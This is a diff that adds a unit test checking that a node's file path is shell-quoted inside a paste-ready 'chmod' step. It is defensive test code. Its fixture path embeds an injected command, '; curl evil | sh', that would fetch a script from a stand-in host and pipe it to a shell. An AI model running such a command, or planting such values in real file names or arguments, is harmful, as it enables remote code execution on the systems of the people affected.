@@ -267,3 +267,11 @@ def test_a_path_in_a_command_is_one_word_for_a_shell() -> None:
     items = diff(resolve([], known), known, NextBoot(known, known.files)).items
     step = next(item.next_step for item in items if item.name == path)
     assert shlex.split(step.rpartition(", or log in")[0]) == ["chmod", "a+rX", path]
+
+
+def test_a_nodes_path_is_quoted_in_a_step_that_is_meant_to_be_pasted() -> None:
+    path = "/etc/sysctl.d/x; curl evil | sh #.conf"
+    known = configured({path: ""})
+    known = replace(known, uid=1000, files={path: known.files[path]._replace(mode=0o600)})
+    (item,) = diff(resolve([], known), known, NextBoot(known, known.files)).items
+    assert item.next_step.startswith("chmod a+rX '/etc/sysctl.d/x; curl evil | sh #.conf', or log in")
